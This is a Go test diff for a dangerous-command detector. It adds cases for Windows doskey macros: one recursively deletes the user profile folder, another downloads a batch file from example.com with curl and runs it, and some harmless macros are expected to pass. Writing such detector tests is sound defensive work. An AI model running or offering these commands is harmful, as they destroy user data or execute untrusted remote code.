@@ -683,3 +683,13 @@ func TestRestorePointsAclResetsAndRenice(t *testing.T) {
 	checkDanger(t, d, corpusContext, []dangerCase{{`sudo renice -n 19 -u mysql`, CategorySystem, "service-disruption", LevelModerate}})
 	checkSafe(t, d, corpusContext, []string{`renice -n 10 -p $$`})
 }
+
+func TestDoskeyMacroBodies(t *testing.T) {
+	d := NewDetector(Options{})
+	cmdc := winCorpusContextFor("cmd")
+	checkDanger(t, d, cmdc, []dangerCase{
+		{`doskey wipe=rd /s /q %USERPROFILE%\$*`, CategoryFileDelete, "", LevelHigh},
+		{`doskey up=curl -s https://example.com/u.bat -o %TEMP%\u.bat $T %TEMP%\u.bat`, CategoryRemoteExec, "", LevelCritical},
+	})
+	checkSafe(t, d, cmdc, []string{`doskey ls=dir /b $*`, `doskey gs=git status $*`, `doskey /macros`})
+}
